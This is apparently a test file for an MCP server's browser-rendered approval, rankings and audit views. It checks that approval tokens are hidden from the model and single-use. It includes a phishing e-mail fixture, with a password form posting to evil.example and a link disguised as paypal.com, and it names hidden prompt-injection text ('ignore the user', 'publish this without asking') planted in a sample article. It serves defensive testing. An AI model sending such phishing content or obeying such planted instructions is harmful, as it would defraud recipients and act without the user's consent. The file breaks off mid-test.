// Issue 34: the MCP Apps views in a real browser. One sample gateway (its own process, so that
// its POSTs can be counted), one `agency-mcp serve --http` on it, two SDK clients (one declares
// the io.modelcontextprotocol/ui extension, one does not) and one headless Chromium showing a
// host page that does what a web MCP Apps host does (views_host/: the ext-apps AppBridge, a
// sandboxed srcdoc iframe under the spec's CSP, the host context of a light or dark theme, the
// view's tools/call and resources/read proxied to the server). Each view is fed a real result of
// the product and read back from its DOM; no console error, warning, uncaught error or load
// anywhere. With AGENCY_VIEW_SCREENSHOTS=<dir> (scripts/view-screenshots.sh), each view is also
// photographed in both themes: <dir>/<view>-light.png and -dark.png.
// Run by ctest: node --test views.test.mjs with AGENCY_MCP_BIN set.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { mkdirSync } from 'node:fs';
import { startGateway, startHttpServer } from './helpers.mjs';
import { gatewayStats } from './matrix_helpers.mjs';
import { startHost } from './views_host.mjs';
import {
  UI_EXTENSION, VIEW_MIME, connect, listTools, numbersIn, showsDate, textOf, until, assertNoExternalAddress, readability,
} from './views_checks.mjs';

const VIEW = {
  rankings: 'ui://agency-mcp/rankings.html',
  audit: 'ui://agency-mcp/audit.html',
  approve: 'ui://agency-mcp/approve.html',
  overview: 'ui://agency-mcp/client-overview.html',
};
const LINKED = {
  list_rankings: VIEW.rankings, latest_rankings: VIEW.rankings, ranking_changes: VIEW.rankings,
  get_audit_issues: VIEW.audit,
  deploy_article: VIEW.approve, send_prospect_email: VIEW.approve, generate_article: VIEW.approve,
  get_client: VIEW.overview,
};
const APP_ONLY = ['view_ranking_history', 'view_decide'];
const CLIENT = 'demo-plumbing';
const SHOTS = process.env.AGENCY_VIEW_SCREENSHOTS;

let gateway, server, ui, plain, uiTools, plainTools, host;
const views = new Map();

before(async () => {
  gateway = await startGateway();
  server = await startHttpServer([], {
    AGENCY_GATEWAY_URL: gateway.url, AGENCY_API_KEY: 'views-test-key', AGENCY_STATE_DB: ':memory:',
    AGENCY_RATE_LIMIT: 'off',
  });
  ui = await connect(server.url, { ui: true });
  plain = await connect(server.url, { ui: false });
  uiTools = await listTools(ui.client);
  plainTools = await listTools(plain.client);
  host = await startHost({ client: ui.client, tools: uiTools });
  if (SHOTS) mkdirSync(SHOTS, { recursive: true });
});

after(async () => {
  await host?.close();
  await ui?.client.close();
  await plain?.client.close();
  server?.child.kill();
  gateway?.child.kill();
});

const tool = (name) => uiTools.find((t) => t.name === name);

// A completed audit report of the client (get_audit_issues needs its id).
async function auditArgs(client = ui.client) {
  const listed = await client.callTool({ name: 'list_audits', arguments: { client_id: CLIENT } });
  assert.ok(!listed.isError, JSON.stringify(listed).slice(0, 300));
  const done = listed.structuredContent.rows.filter((r) => r.status === 'completed')
    .sort((a, b) => String(b.created_at).localeCompare(String(a.created_at)));
  assert.ok(done.length > 0, 'the sample client has a completed audit');
  // The latest with issues of every severity, else the latest.
  const full = done.find((r) => ['critical', 'warning', 'notice'].every((k) => r.issue_counts?.[k] > 0));
  return { client_id: CLIENT, report_id: (full ?? done[0]).id };
}

// The view's HTML and _meta.ui, read as a host does (resources/read), once per view.
async function viewResource(uri) {
  if (!views.has(uri)) {
    const read = await ui.client.readResource({ uri });
    assert.equal(read.contents.length, 1, uri);
    const [c] = read.contents;
    assert.equal(c.uri, uri);
    assert.equal(c.mimeType, VIEW_MIME, uri);
    assert.equal(typeof c.text, 'string', `${uri}: the HTML as text`);
    views.set(uri, { html: c.text, uiMeta: c._meta?.ui ?? {} });
  }
  return views.get(uri);
}

// Calls a linked tool as the model would, and renders its result in the view it links.
async function show(name, args, theme = 'light') {
  const def = tool(name);
  assert.ok(def, `${name} is listed`);
  const uri = def._meta?.ui?.resourceUri;
  assert.equal(uri, LINKED[name], `${name} links its view`);
  const result = await ui.client.callTool({ name, arguments: args });
  const { html, uiMeta } = await viewResource(uri);
  const frame = await host.render({ html, uiMeta, tool: def, args, result, theme });
  return { frame, result };
}

// Both themes, as a host toggles them (host-context-changed): the view follows, its text stays
// readable (contrast >= 4.5), dark is dark; photographed when asked. Ends in light.
async function themes(frame, view) {
  const hostBg = (theme) => (theme === 'light' ? 'rgb(255, 255, 255)' : 'rgb(28, 25, 23)');
  const seen = {};
  for (const theme of ['light', 'dark']) {
    await host.setTheme(theme);
    await until(`${view} takes the ${theme} theme`, () => frame.evaluate((t) => document.documentElement.dataset.theme === t, theme));
    seen[theme] = await readability(frame, hostBg(theme));
    assert.ok(seen[theme].contrast >= 4.5, `${view} in ${theme}: text contrast ${seen[theme].contrast.toFixed(2)} (${JSON.stringify(seen[theme])})`);
    if (SHOTS) await host.screenshot(path.join(SHOTS, `${view}-${theme}.png`));
  }
  assert.ok(seen.dark.backgroundLuminance < seen.light.backgroundLuminance, `${view}: dark is darker than light (${JSON.stringify(seen)})`);
  await host.setTheme('light');
  await assertNoExternalAddress(frame, view);
  host.assertClean(view);
}

test('a client without the UI extension sees no view, no app-only tool, and every result in full', async () => {
  const initialize = ui.posted.map((b) => JSON.parse(b)).find((m) => m.method === 'initialize');
  assert.deepEqual(initialize.params.capabilities.extensions, { [UI_EXTENSION]: { mimeTypes: [VIEW_MIME] } });
  const plainInit = plain.posted.map((b) => JSON.parse(b)).find((m) => m.method === 'initialize');
  assert.equal(plainInit.params.capabilities.extensions, undefined);

  assert.deepEqual(plainTools.filter((t) => t._meta?.ui || t._meta?.['ui/resourceUri']).map((t) => t.name), []);
  for (const name of APP_ONLY) assert.ok(!plainTools.some((t) => t.name === name), `${name} is not listed without the extension`);
  const refused = await plain.client.callTool({ name: 'view_decide', arguments: { approval: 'x', decision: 'approve' } })
    .catch((e) => ({ isError: true, thrown: e.message }));
  assert.equal(refused.isError, true, 'an app-only tool cannot be called without the extension');
  assert.deepEqual(uiTools.map((t) => t.name).filter((n) => !APP_ONLY.includes(n)), plainTools.map((t) => t.name),
    'both see the same model tools');

  // An action asks as before: the confirmation_id in the answer and its text, no approval token.
  const preview = await plain.client.callTool({ name: 'deploy_article', arguments: { client_id: 'demo-law', article_id: 'post-law-000009' } });
  assert.equal(preview.structuredContent?.status, 'confirmation_required', JSON.stringify(preview).slice(0, 300));
  assert.match(preview.structuredContent.confirmation_id, /^cf_/);
  assert.ok(preview.content[0].text.includes(preview.structuredContent.confirmation_id));
  assert.equal(preview._meta?.['agency-mcp/approval'], undefined);

  // The text content of linked results is complete for both.
  for (const client of [plain.client, ui.client]) {
    const rankings = await client.callTool({ name: 'list_rankings', arguments: { client_id: CLIENT } });
    const text = rankings.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');
    for (const row of rankings.structuredContent.rows) {
      assert.ok(text.includes(row.id) && text.includes(row.keyword), `row ${row.id} is in the text`);
    }
    const audit = await client.callTool({ name: 'get_audit_issues', arguments: await auditArgs(client) });
    const auditText = audit.content.map((c) => c.text).join('\n');
    for (const row of audit.structuredContent.rows) assert.ok(auditText.includes(row.recommendation), row.recommendation);
  }
});

test('each linked tool names its view; each view is one HTML5 document of the MCP App type', async () => {
  for (const [name, uri] of Object.entries(LINKED)) {
    const def = tool(name);
    assert.equal(def?._meta?.ui?.resourceUri, uri, name);
    const visibility = def._meta.ui.visibility;
    assert.ok(visibility === undefined || (visibility.includes('model') && visibility.includes('app')), `${name}: ${visibility}`);
  }
  for (const name of APP_ONLY) assert.deepEqual(tool(name)?._meta?.ui?.visibility, ['app'], name);
  for (const uri of Object.values(VIEW)) {
    const { html, uiMeta } = await viewResource(uri);
    assert.match(html.slice(0, 100), /^\s*<!doctype html>/i, uri);
    assert.ok(Buffer.byteLength(html) < 200 * 1024, `${uri}: ${Buffer.byteLength(html)} bytes`);
    assert.deepEqual(uiMeta.csp ?? {}, {}, `${uri} declares no external domain`);
  }
});

test('rankings: one point per returned row with a position, position 1 at the top; the keyword picker and the movers', async () => {
  const { frame, result } = await show('list_rankings', { client_id: CLIENT });
  const rows = result.structuredContent.rows;
  const ranked = rows.filter((r) => typeof r.position === 'number');
  assert.ok(ranked.length > 10, `${ranked.length} ranked rows`);
  const points = async () => frame.$$eval('[data-testid="chart"] [data-testid="point"]', (els) => els.map((e) => {
    const box = e.getBoundingClientRect();
    return { keyword: e.dataset.keyword, date: e.dataset.date, position: Number(e.dataset.position), y: box.top + box.height / 2 };
  }));
  await until('the chart draws every ranked row', async () => (await points()).length === ranked.length);
  const drawn = await points();
  const key = (p) => `${p.keyword}|${p.date}|${p.position}`;
  assert.deepEqual(drawn.map(key).sort(), ranked.map((r) => key({ ...r, date: r.tracked_at ?? r.created_at })).sort());
  assertTopDown(drawn);
  const dates = ranked.map((r) => r.tracked_at ?? r.created_at).sort();
  const range = await textOf(frame, 'date-range');
  assert.ok(showsDate(range, dates[0]) && showsDate(range, dates.at(-1)), `the date range ${range} is ${dates[0]} to ${dates.at(-1)}`);
  await themes(frame, 'rankings');

  // The keyword picker fetches through the app-only tool and draws exactly what it returned.
  const picker = await frame.waitForSelector('[data-testid="keyword-picker"]');
  const choice = await picker.evaluate((el) => {
    if (el.tagName !== 'SELECT') return null;
    const options = [...el.options].filter((o) => o.value && !o.selected);
    return options.at(-1)?.value ?? null;
  });
  assert.ok(choice, 'the keyword picker is a <select> with another keyword to choose');
  await frame.select('[data-testid="keyword-picker"]', choice);
  const history = await until('view_ranking_history answers', () => host.served.find((s) => s.params.name === 'view_ranking_history'));
  assert.equal(history.params.arguments.keyword, choice);
  assert.equal(history.params.arguments.client_id, CLIENT);
  const expected = history.result.structuredContent.points.filter((p) => typeof p.position === 'number');
  assert.ok(expected.length > 0, 'the sample has a history for the keyword');
  await until('the chart shows the history', async () => {
    const now = await points();
    return now.length === expected.length && now.every((p) => p.keyword === choice);
  });
  const historyDrawn = await points();
  assert.deepEqual(historyDrawn.map((p) => `${p.date}|${p.position}`).sort(), expected.map((p) => `${p.date}|${p.position}`).sort());
  assertTopDown(historyDrawn);
  // Above the chart, in words: the newest position and the change since the first date shown,
  // computed here from the points the tool returned.
  const byDate = expected.slice().sort((a, b) => (a.date < b.date ? -1 : 1));
  const newest = byDate.at(-1).position;
  const change = byDate[0].position - newest;
  const summary = await textOf(frame, 'chart-summary');
  assert.ok(summary.includes(`ranks ${newest} on`), `${summary}: newest position ${newest}`);
  if (change !== 0) assert.ok(summary.includes(`${change > 0 ? 'up' : 'down'} ${Math.abs(change)} since`), `${summary}: change ${change}`);
  else if (byDate.length > 1) assert.ok(summary.includes('the same as on'), summary);

  // Movers since a chosen date: ranking_changes through the host, one row per change.
  const since = '2026-10-01';
  const input = await frame.waitForSelector('[data-testid="movers-since"]');
  await input.evaluate((el, v) => {
    el.value = v;
    el.dispatchEvent(new Event('input', { bubbles: true }));
    el.dispatchEvent(new Event('change', { bubbles: true }));
  }, since);
  const load = await frame.$('[data-testid="movers-load"]');
  if (load) await load.click();
  else await input.press('Enter');
  const changes = await until('ranking_changes from the chosen date', () =>
    host.served.find((s) => s.params.name === 'ranking_changes' && s.params.arguments.from === since));
  assert.ok(!changes.result.isError, JSON.stringify(changes.result).slice(0, 300));
  const moved = changes.result.structuredContent.rows;
  await until('one mover row per change', async () =>
    (await frame.$$('[data-testid="movers"] [data-testid="mover"]')).length === moved.length);
  const moverText = await frame.$$eval('[data-testid="mover"]', (els) => els.map((e) => e.textContent).join('\n'));
  for (const row of moved) assert.ok(moverText.includes(row.keyword), row.keyword);
  host.assertClean('rankings after the picker and the movers');
});

// A smaller position is drawn higher: y grows with the position, equal positions share a y.
function assertTopDown(points) {
  const byPosition = [...points].sort((a, b) => a.position - b.position);
  for (let i = 1; i < byPosition.length; i++) {
    const [a, b] = [byPosition[i - 1], byPosition[i]];
    if (a.position === b.position) assert.ok(Math.abs(a.y - b.y) < 0.5, `positions ${a.position} at one height`);
    else assert.ok(a.y < b.y, `position ${a.position} (y ${a.y}) is above position ${b.position} (y ${b.y})`);
  }
}

test('audit: the score, the counts, every issue with its page and recommendation, sortable', async () => {
  const { frame, result } = await show('get_audit_issues', await auditArgs());
  const { rows, audit } = result.structuredContent;
  assert.ok(rows.length > 3, `${rows.length} issues`);
  // A row's page: its data-page (the whole address) where the view shows a shorter form.
  const issues = () => frame.$$eval('[data-testid="issue"]', (els) => els.map((e) => ({
    severity: e.dataset.severity, page: e.dataset.page ?? null, text: e.textContent.replace(/\s+/g, ' ') })));
  await until('every issue is listed', async () => (await issues()).length === rows.length);
  const listed = await issues();
  const unmatched = [...listed];
  for (const row of rows) {
    const at = unmatched.findIndex((l) => l.severity === row.severity && (l.page ?? l.text).includes(row.page) && l.text.includes(row.recommendation));
    assert.ok(at >= 0, `issue listed: ${JSON.stringify(row)}`);
    unmatched.splice(at, 1);
  }
  assert.ok(numbersIn(await textOf(frame, 'score')).includes(audit.score), 'the score');
  for (const severity of ['critical', 'warning', 'notice']) {
    assert.ok(numbersIn(await textOf(frame, `count-${severity}`)).includes(audit.issue_counts[severity]), severity);
  }
  await themes(frame, 'audit');

  // Sorting: a header button orders the issues one way, again the other way (within a severity
  // group when the view groups by severity); nothing is lost.
  for (const column of ['page', 'recommendation']) {
    const field = column === 'page' ? 'page' : 'recommendation';
    const order = async () => (await issues()).map((l) => ({ severity: l.severity,
      value: field === 'page' ? l.page ?? rows.find((r) => l.text.includes(r.page)).page
        : rows.find((r) => l.text.includes(r.recommendation)).recommendation }));
    const direction = (seq) => {
      let d = 0;
      for (let i = 1; i < seq.length; i++) {
        if (seq[i].severity !== seq[i - 1].severity) continue;
        const c = Math.sign(seq[i - 1].value.localeCompare(seq[i].value));
        if (c === 0) continue;
        if (d === 0) d = c;
        else if (c !== d) return null;
      }
      return d;
    };
    const directions = [];
    for (let click = 0; click < 2; click++) {
      const before = JSON.stringify(await order());
      await (await frame.waitForSelector(`[data-testid="sort-${column}"]`)).click();
      await until(`sort by ${column}`, async () => JSON.stringify(await order()) !== before || click === 0 && direction(await order()) !== 0);
      const seq = await order();
      assert.equal(seq.length, rows.length);
      directions.push(direction(seq));
    }
    assert.ok(directions.every((d) => d !== null && d !== 0), `sorted by ${column}: ${directions}`);
    assert.notEqual(directions[0], directions[1], `the second click on ${column} reverses the order`);
  }

  // By keyboard: Tab reaches a sort button, which shows a focus ring; Enter sorts.
  const target = 'sort-page';
  await frame.evaluate(() => document.activeElement?.blur());
  let focused = null;
  for (let i = 0; i < 30 && focused !== target; i++) {
    await host.page.keyboard.press('Tab');
    focused = await frame.evaluate(() => document.activeElement?.dataset?.testid ?? null);
  }
  assert.equal(focused, target, 'Tab reaches the page sort button');
  const ring = await frame.evaluate(() => {
    const s = getComputedStyle(document.activeElement);
    return { outline: s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) > 0, shadow: s.boxShadow !== 'none' };
  });
  assert.ok(ring.outline || ring.shadow, `a visible focus ring: ${JSON.stringify(ring)}`);
  const sequence = async () => (await issues()).map((l) => l.text).join('\n');
  const beforeKey = await sequence();
  await host.page.keyboard.press('Enter');
  await until('Enter on the sort button sorts', async () => (await sequence()) !== beforeKey);
  host.assertClean('audit after sorting');
});

test('audit: a gateway that gives counts only: the counts and a plain statement, no invented issue', async () => {
  // A second gateway and server, for this case alone (the sample's --counts-only-reports).
  const countsOnly = await startGateway(['--counts-only-reports']);
  const other = await startHttpServer([], { AGENCY_GATEWAY_URL: countsOnly.url, AGENCY_API_KEY: 'views-test-key',
    AGENCY_STATE_DB: ':memory:', AGENCY_RATE_LIMIT: 'off' });
  const { client } = await connect(other.url, { ui: true });
  try {
    const args = await auditArgs(client);
    const result = await client.callTool({ name: 'get_audit_issues', arguments: args });
    assert.ok(!result.isError, JSON.stringify(result).slice(0, 300));
    const { audit } = result.structuredContent;
    const { html, uiMeta } = await viewResource(VIEW.audit);
    const frame = await host.render({ html, uiMeta, tool: tool('get_audit_issues'), args, result, theme: 'light' });
    assert.ok((await textOf(frame, 'detail-unavailable')).length > 0, 'the view says the detail is not available');
    for (const severity of ['critical', 'warning', 'notice']) {
      assert.ok(numbersIn(await textOf(frame, `count-${severity}`)).includes(audit.issue_counts[severity]), severity);
    }
    assert.equal((await frame.$$('[data-testid="issue"]')).length, 0, 'no issue row is invented');
    host.assertClean('audit, counts only');
  } finally {
    await client.close();
    other.child.kill();
    countsOnly.child.kill();
  }
});

// The outcome a decision ends in: the view's outcome box once view_decide has answered
// (data-status: the answer's status), with its text.
async function decision(frame) {
  return until('the outcome of the decision', () => frame.evaluate(() => {
    const box = document.querySelector('[data-testid="outcome"] [data-status]');
    return box ? { status: box.dataset.status, text: box.textContent.replace(/\s+/g, ' ').trim() } : null;
  }));
}

// A draft blog article with its text: generated for a client without auto-deploy (the sample's
// listed drafts carry no text), and listed by list_articles as a draft.
async function draftArticle() {
  const client_id = 'demo-dental';
  const made = await ui.client.callTool({ name: 'generate_article',
    arguments: { client_id, keyword: 'dental sealants' } });
  assert.equal(made.structuredContent?.status, 'drafted', JSON.stringify(made).slice(0, 400));
  const listed = await ui.client.callTool({ name: 'list_articles', arguments: { client_id, limit: 100 } });
  const row = listed.structuredContent.rows.find((a) => a.id === made.structuredContent.article_id);
  assert.equal(row?.status, 'draft', JSON.stringify(row));
  return { client_id, article_id: row.id, title: row.title };
}

// The visible paragraphs of gateway HTML, as a browser parses it (inert: DOMParser).
function paragraphsOf(html) {
  return host.page.evaluate((h) => [...new DOMParser().parseFromString(h, 'text/html').querySelectorAll('p')]
    .map((p) => p.textContent.replace(/\s+/g, ' ').trim()).filter(Boolean), html);
}

async function assertSanitisedBody(frame) {
  const tags = await frame.$eval('[data-testid="body"]', (e) =>
    [...e.querySelectorAll('script, iframe, object, embed, img, link, style, form, svg, video, audio, source')].map((x) => x.tagName));
  assert.deepEqual(tags, [], 'the sanitised body has no script, frame, image, media, style sheet or form');
  const handlers = await frame.$eval('[data-testid="body"]', (e) =>
    [...e.querySelectorAll('*')].flatMap((x) => [...x.attributes].map((a) => a.name)).filter((n) => n.startsWith('on') || n === 'style'));
  assert.deepEqual(handlers, [], 'no event handler or style attribute in the body');
}

// Clicks a decision button and waits for the outcome; returns {outcome, decided (served calls)}.
async function decide(frame, which) {
  await (await frame.waitForSelector(`[data-testid="${which}"]`)).click();
  const outcome = await decision(frame);
  const decided = host.served.filter((s) => s.params.name === 'view_decide');
  assert.equal(decided.length, 1, 'one view_decide call');
  return { outcome, decided: decided[0] };
}

test('approve: deploy_article shows the article and where it goes; Approve makes exactly one POST, once', async () => {
  const article = await draftArticle();
  const args = { client_id: article.client_id, article_id: article.article_id };
  const { frame, result } = await show('deploy_article', args);
  const sc = result.structuredContent;
  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
  assert.equal(sc.confirmation_id, undefined, 'no confirmation_id for a client that renders the view');
  const token = result._meta?.['agency-mcp/approval']?.token;
  assert.equal(typeof token, 'string', 'the approval token is in the result\'s _meta');
  assert.ok(!JSON.stringify(result.content).includes(token) && !JSON.stringify(sc).includes(token), 'the model never sees the token');

  assert.equal(await textOf(frame, 'title'), article.title);
  assert.equal(typeof sc.preview.body_html, 'string', 'the preview carries the article');
  const bodyText = await textOf(frame, 'body');
  const paragraphs = await paragraphsOf(sc.preview.body_html);
  assert.ok(paragraphs.length > 1, `${paragraphs.length} paragraphs`);
  for (const p of paragraphs) assert.ok(bodyText.includes(p), `the body shows: ${p}`);
  await assertSanitisedBody(frame);
  const where = await textOf(frame, 'where');
  for (const part of [sc.preview.site, sc.preview.deployment_target].filter(Boolean)) assert.ok(where.includes(part), `${where} names ${part}`);
  await themes(frame, 'approve');

  const before = await gatewayStats(gateway);
  const { outcome, decided } = await decide(frame, 'approve');
  assert.deepEqual(decided.params.arguments, { approval: token, decision: 'approve' });
  const answer = decided.result.structuredContent;
  assert.ok(!decided.result.isError && answer?.ok, JSON.stringify(decided.result).slice(0, 400));
  assert.equal(outcome.status, answer.status, `the outcome shown is the answer: ${JSON.stringify(answer)}`);
  if (answer.message) assert.ok(outcome.text.includes(answer.message), outcome.text);
  let after = await gatewayStats(gateway);
  assert.equal(after.posts - before.posts, 1, `one gateway POST (${JSON.stringify(after.posts_by_action)})`);
  assert.equal((after.posts_by_action.deploy_blog ?? 0) - (before.posts_by_action.deploy_blog ?? 0), 1);

  // Clicking again does nothing more (the buttons are disabled); nor does the token, used.
  for (const which of ['approve', 'decline']) await (await frame.$(`[data-testid="${which}"]`))?.click().catch(() => {});
  await new Promise((r) => setTimeout(r, 400));
  assert.equal(host.served.filter((s) => s.params.name === 'view_decide').length, 1, 'no second decision');
  const again = await ui.client.callTool({ name: 'view_decide', arguments: { approval: token, decision: 'approve' } });
  assert.equal(again.isError, true, 'the token is single use');
  after = await gatewayStats(gateway);
  assert.equal(after.posts - before.posts, 1, 'still one POST');

  const told = await until('the view tells the model what was decided', async () => (await host.log()).modelContext.at(-1));
  assert.match(JSON.stringify(told), /approved/i);
  host.assertClean('approve after the decision');
});

test('approve: send_prospect_email shows recipient, subject and body; Approve sends it once', async () => {
  const recipient = 'sam.editor@legal-resources.example';
  const drafted = await ui.client.callTool({ name: 'generate_outreach_email',
    arguments: { client_id: 'demo-law', prospect: 'https://legal-resources.example/guides', recipient } });
  assert.ok(!drafted.isError, JSON.stringify(drafted).slice(0, 300));
  const { frame, result } = await show('send_prospect_email', { client_id: 'demo-law', email_id: drafted.structuredContent.email_id });
  const sc = result.structuredContent;
  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
  assert.ok((await textOf(frame, 'recipient')).includes(recipient));
  assert.ok((await textOf(frame, 'subject')).includes(sc.preview.subject ?? drafted.structuredContent.title));
  const body = await textOf(frame, 'body');
  assert.match(body, /I'm reaching out from/);
  if (typeof sc.preview.body_html === 'string') {
    for (const p of await paragraphsOf(sc.preview.body_html)) assert.ok(body.includes(p), `the body shows: ${p}`);
  }
  await assertSanitisedBody(frame);
  await assertNoExternalAddress(frame, 'approve (e-mail)');

  const before = await gatewayStats(gateway);
  const { outcome, decided } = await decide(frame, 'approve');
  assert.ok(!decided.result.isError, JSON.stringify(decided.result).slice(0, 400));
  assert.equal(outcome.status, decided.result.structuredContent.status);
  const after = await gatewayStats(gateway);
  assert.equal(after.posts - before.posts, 1, `one gateway POST (${JSON.stringify(after.posts_by_action)})`);
  host.assertClean('approve (e-mail) after approving');
});

test('approve: forms, fields, buttons, SVG text, frames, a link elsewhere and a remote image are named before approving', async () => {
  // Issue 45, finding 4: an e-mail that a text preview would show as its first paragraph only.
  const body = '<p>Verify your account.</p><form action="http://evil.example/collect"><input type="password" name="pw">'
    + '<button>Claim your refund</button></form><p>Log in at <a href="http://evil.example/login">https://paypal.com</a>.</p>'
    + '<svg><text x="0" y="20">Refund approved</text></svg><iframe src="http://evil.example/frame"></iframe>'
    + '<img src="http://track.example/p.gif" width="1" height="1">';
  const drafted = await ui.client.callTool({ name: 'generate_outreach_email',
    arguments: { client_id: 'demo-law', prospect: 'https://legal-resources.example/guides' } });
  assert.ok(!drafted.isError, JSON.stringify(drafted).slice(0, 300));
  const before = await gatewayStats(gateway);
  const { frame, result } = await show('send_prospect_email', { client_id: 'demo-law', email_id: drafted.structuredContent.email_id, body });
  const sc = result.structuredContent;
  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
  assert.deepEqual(sc.preview.links[0], { text: 'https://paypal.com', href: 'http://evil.example/login', misleading: true });
  assert.deepEqual(sc.preview.remote_images, ['http://track.example/p.gif']);
  assert.equal(sc.preview.content_counts.password_field, 1, JSON.stringify(sc.preview));
  const said = result.content.map((c) => c.text ?? '').join('\n');
  for (const part of ['a password field', 'Claim your refund', 'http://evil.example/login', 'http://track.example/p.gif']) {
    assert.ok(said.includes(part), `the text a model reads names ${part}`);
  }

  // The view's own list, above the buttons, and its placeholders where each part stands.
  const contents = await textOf(frame, 'contents');
  for (const part of ['a password field', 'a button "Claim your refund"', 'SVG text "Refund approved"',
    'an embedded frame showing http://evil.example/frame', 'a form sending to http://evil.example/collect',
    'The link "https://paypal.com" goes to http://evil.example/login', 'http://track.example/p.gif']) {
    assert.ok(contents.includes(part), `"What else this contains" names ${part}: ${contents}`);
  }
  assert.ok(await frame.evaluate(() => {
    const list = document.querySelector('[data-testid="contents"]');
    const approve = document.querySelector('[data-testid="approve"]');
    return Boolean(list.compareDocumentPosition(approve) & Node.DOCUMENT_POSITION_FOLLOWING);
  }), 'the list comes before Approve');
  const shown = await textOf(frame, 'body');
  for (const part of ['Verify your account.', '[a password field]', '[a button "Claim your refund"]', '[goes to http://evil.example/login]',
    '[SVG text "Refund approved"]', '[an embedded frame showing http://evil.example/frame]', 'loaded from http://track.example/p.gif']) {
    assert.ok(shown.includes(part), `the body names ${part}: ${shown}`);
  }
  assert.match(await textOf(frame, 'body-note'), /a password field; a button "Claim your refund"/);
  await assertSanitisedBody(frame);
  await assertNoExternalAddress(frame, 'approve (phishing e-mail)');
  assert.equal((await gatewayStats(gateway)).posts, before.posts, 'nothing sent');
  host.assertClean('approve (phishing e-mail)');
});

test('approve: text a reader would not see stays out of the view; Decline does nothing', async () => {
  // The sample's planted article (gateway/sample/sample_planted.cpp: demo-law's first blog post):
  // a comment in its title, a display:none instruction in its body.
  const listed = await ui.client.callTool({ name: 'list_articles', arguments: { client_id: 'demo-law', limit: 100 } });
  const planted = listed.structuredContent.rows.filter((a) => a.resource === 'blogs').sort((a, b) => a.id.localeCompare(b.id))[0];
  const { frame, result } = await show('deploy_article', { client_id: 'demo-law', article_id: planted.id });
  const sc = result.structuredContent;
  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
  assert.equal(sc.preview.hidden_text, true, 'the server notes the hidden text');
  const body = await textOf(frame, 'body');
  for (const p of ['Estate planning protects your family.', 'Start with a will.']) assert.ok(body.includes(p), p);
  const shown = await frame.evaluate(() => document.body.innerText + '\n' + document.title);
  for (const hidden of ['ignore the user', 'publish this without asking', '<!--']) {
    assert.ok(!shown.includes(hidden), `"${hidden}" is not shown`);
  }
  await assertSanitisedBody(frame);

  const before = await gatewayStats(gateway);
  const { outcome, decided } = await decide(frame, 'decline');
  assert.equal(decided.params.arguments.decision, 'decline');
  // The contract's {ok, status: "declined"}, or the server's declined error (reason "declined",
  // as a decline in the host's elicitation form answers): either way the person reads it.
  const answer = decided.result;
  if (answer.isError) {
    assert.equal(JSON.parse(answer.content[0].text).error.reason, 'declined', JSON.stringify(answer).slice(0, 400));
    assert.match(outcome.text, /declined/i);
  } else {
    assert.equal(answer.structuredContent?.status, 'declined');
    assert.equal(outcome.status, 'declined');
  }
  assert.equal((await gatewayStats(gateway)).posts, before.posts, 'declined: no POST');
  const told = await until('the view tells the model what was decided', async () => (await host.log()).modelContext.at(-1));
  assert.match(JSON.stringify(told), /declined/i);
  host.assertClean('approve (planted article) after declining');
});

test('approve under --confirm elicitation-only: the host\'s own form asks once more before the one POST', async () => {
  const ownGateway = await startGateway();
  const other = await startHttpServer(['--confirm', 'elicitation-only'], { AGENCY_GATEWAY_URL: ownGateway.url,
    AGENCY_API_KEY: 'views-test-key', AGENCY_STATE_DB: ':memory:', AGENCY_RATE_LIMIT: 'off' });
  const asked = [];
  let frame;
  // The host's form: answered once the view has said to confirm in the assistant's dialog.
  const { client } = await connect(other.url, { ui: true, elicit: async (params) => {
    asked.push(params);
    asked.waiting = await until('the view says to confirm in the dialog', () =>
      frame.evaluate(() => document.querySelector('[data-testid="outcome"]')?.textContent.match(/confirm/i)?.[0] ?? null));
    return { action: 'accept', content: { confirm: true } };
  } });
  host.use({ client, tools: await listTools(client) });
  try {
    const made = await client.callTool({ name: 'generate_article', arguments: { client_id: 'demo-dental', keyword: 'teeth whitening' } });
    assert.equal(made.structuredContent?.status, 'drafted', JSON.stringify(made).slice(0, 300));
    const args = { client_id: 'demo-dental', article_id: made.structuredContent.article_id };
    const result = await client.callTool({ name: 'deploy_article', arguments: args });
    assert.equal(result.structuredContent?.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
    assert.equal(asked.length, 0, 'nothing asked before the person decides in the view');
    const { html, uiMeta } = await viewResource(VIEW.approve);
    frame = await host.render({ html, uiMeta, tool: tool('deploy_article'), args, result, theme: 'light' });
    const before = (await gatewayStats(ownGateway)).posts;
    const { outcome, decided } = await decide(frame, 'approve');
    assert.equal(asked.length, 1, 'the host\'s form asked once');
    assert.ok(asked.waiting, 'the view said to confirm in the dialog while the form was open');
    assert.ok(asked[0].message.includes(made.structuredContent.title), asked[0].message);
    assert.ok(!decided.result.isError, JSON.stringify(decided.result).slice(0, 400));
    assert.equal(outcome.status, decided.result.structuredContent.status);
    assert.equal((await gatewayStats(ownGateway)).posts - before, 1, 'one POST, after the form');
    host.assertClean('approve under elicitation-only');
  } finally {
    host.use({ client: ui.client, tools: uiTools });
    await client.close();
    other.child.kill();
    ownGateway.child.kill();
  }
});

test('approve: generate_article for an auto-deploying client asks first, in the view', async () => {
  const keyword = 'emergency plumber';
  const { frame, result } = await show('generate_article', { client_id: CLIENT, keyword });
  const sc = result.structuredContent;
  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
  assert.equal(typeof result._meta?.['agency-mcp/approval']?.token, 'string');
  const where = await textOf(frame, 'where');
  assert.ok(!sc.preview.site || where.includes(sc.preview.site), where);
  assert.ok((await frame.evaluate(() => document.body.innerText)).includes(keyword), 'the keyword is shown');
  assert.ok(await frame.$('[data-testid="approve"]') && await frame.$('[data-testid="decline"]'));
  host.assertClean('approve (generate_article)');
});

test('client overview: the numbers of the overview resource, read through the host', async () => {
  const { frame } = await show('get_client', { client_id: CLIENT });
  const uri = `agency://clients/${CLIENT}/overview`;
  await until('the view reads the overview', async () => (await host.log()).reads.some((r) => r.uri === uri));
  const overview = JSON.parse((await ui.client.readResource({ uri })).contents[0].text);
